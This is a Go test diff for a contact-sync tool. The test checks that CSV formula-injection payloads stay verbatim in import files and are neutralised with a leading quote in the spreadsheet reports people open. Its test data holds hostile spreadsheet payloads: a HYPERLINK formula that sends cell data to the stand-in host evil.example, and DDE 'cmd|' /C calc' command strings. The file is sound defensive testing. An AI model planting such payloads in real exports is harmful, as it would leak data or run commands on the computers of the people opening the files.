@@ -297,3 +297,100 @@ func TestBadInputCorpus(t *testing.T) {
 		})
 	}
 }
+
+// readCSV reads an outbox file of a run by its suffix.
+func (e *env) readCSV(runID, suffix string) [][]string {
+	e.t.Helper()
+	for _, name := range e.outputs(runID) {
+		if strings.HasSuffix(name, suffix) {
+			f, err := os.Open(filepath.Join(e.outbox, name))
+			if err != nil {
+				e.t.Fatal(err)
+			}
+			defer f.Close()
+			rows, err := csv.NewReader(f).ReadAll()
+			if err != nil {
+				e.t.Fatalf("%s: %v", name, err)
+			}
+			return rows
+		}
+	}
+	e.t.Fatalf("run %s wrote no *%s (files %v)", runID, suffix, e.outputs(runID))
+	return nil
+}
+
+// TestFormulaInjection follows formula payloads from a drop to the three
+// kinds of file: kept verbatim in the import file (Control Hub reads data,
+// and a phone number's + must survive), neutralised with a leading quote
+// in the delete and rejected reports that a person opens in a spreadsheet.
+func TestFormulaInjection(t *testing.T) {
+	e := newEnv(t, "10")
+	if err := os.WriteFile(e.config, []byte(badConfig), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	payloads, err := os.ReadFile(filepath.Join("testdata", "bad", "formula-payloads.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	rejects := "=2+5,Bad,12ab,x@example.com,Buyer,Acme\n@SUM(A1),Bad,12ab,x@example.com,Buyer,Acme\n" +
+		"+1,Bad,12ab,x@example.com,Buyer,Acme\n-1,Bad,12ab,x@example.com,Buyer,Acme\n"
+	e.dropAs("a.csv", append(payloads, rejects...))
+	if code, rep, errs := e.syncJSON(); code != ExitRejected || rep.Run.Created != 8 || rep.Run.Rejected != 4 {
+		t.Fatalf("exit %d %+v\n%s", code, rep.Run, errs)
+	}
+	verbatim := map[string][]string{
+		"300": {`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "=1+2", "+cmd|' /C calc'!A0"},
+		"301": {"@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@Acme"},
+		"302": {"-Minus Name"},
+	}
+	imp := e.readCSV("000001", "-import-001.csv")
+	var all strings.Builder
+	for _, row := range imp {
+		all.WriteString(strings.Join(row, "\x1f") + "\n")
+	}
+	for key, vals := range verbatim {
+		for _, v := range vals {
+			if !strings.Contains(all.String(), "\x1f"+v+"\x1f") && !strings.HasPrefix(all.String(), v+"\x1f") && !strings.Contains(all.String(), "\n"+v+"\x1f") {
+				t.Errorf("import file lacks record %s's value %q verbatim", key, v)
+			}
+			if strings.Contains(all.String(), "'"+v) {
+				t.Errorf("import file neutralised %q", v)
+			}
+		}
+	}
+	rej := e.readCSV("000001", "-rejected.csv")
+	wantKeys := map[string]bool{"'=2+5": true, "'@SUM(A1)": true, "'+1": true, "'-1": true}
+	for _, row := range rej[1:] {
+		if !wantKeys[row[0]] {
+			t.Errorf("rejected report key %q is not neutralised", row[0])
+		}
+		delete(wantKeys, row[0])
+	}
+	if len(wantKeys) != 0 {
+		t.Errorf("rejected report lacks %v", wantKeys)
+	}
+
+	// Once bound, the formula contacts leave the source: the delete report
+	// names them, neutralised.
+	e.reconcileAll("crm", "000001")
+	e.dropAs("b.csv", goodDrop(t))
+	code, rep, errs := e.syncJSON()
+	if code != ExitOK || rep.Run.Deleted != 3 {
+		t.Fatalf("exit %d %+v\n%s", code, rep.Run, errs)
+	}
+	del := e.readCSV(fmt.Sprintf("%06d", rep.Run.ID), "-delete.csv")
+	names := map[string]bool{}
+	for _, row := range del[1:] {
+		names[row[0]] = true
+		for _, v := range row {
+			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
+				t.Errorf("delete report value %q starts a formula", v)
+			}
+		}
+	}
+	for _, want := range []string{`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-Minus Name"} {
+		if !names[want] {
+			t.Errorf("delete report lacks %q; has %v", want, names)
+		}
+	}
+}
